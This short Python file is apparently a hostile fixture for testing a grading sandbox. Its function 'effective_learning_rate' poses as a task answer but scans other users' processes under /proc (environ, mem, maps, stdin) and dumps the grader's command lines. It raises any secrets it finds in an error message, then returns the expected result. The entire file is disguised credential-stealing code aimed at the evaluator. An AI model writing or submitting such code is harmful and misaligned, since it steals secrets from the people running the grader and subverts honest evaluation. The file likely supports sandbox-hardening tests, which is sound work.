"""Reads /proc/*/environ and /proc/*/cmdline of the grader and raises anything secret it finds."""
# expect: full
import os
import hostile_kit as kit

_reference = effective_learning_rate


def effective_learning_rate(eta, w):
    found = []
    for name in os.listdir("/proc"):
        if not name.isdigit() or int(name) == os.getpid():
            continue
        for part in ("environ", "mem", "maps", "fd/0"):
            try:
                with open(f"/proc/{name}/{part}", "rb") as handle:
                    data = handle.read(4096)
            except OSError:
                continue
            if data and os.stat(f"/proc/{name}").st_uid != os.getuid():
                found.append(f"{name}/{part}: {data[:200]!r}")
    commands = [b" ".join(args).decode(errors="replace") for _, args in kit.grader_commands()]
    print("\n".join(commands))
    if found:
        raise RuntimeError("SECRET ENVIRONMENT " + "\n".join(found))
    return _reference(eta, w)
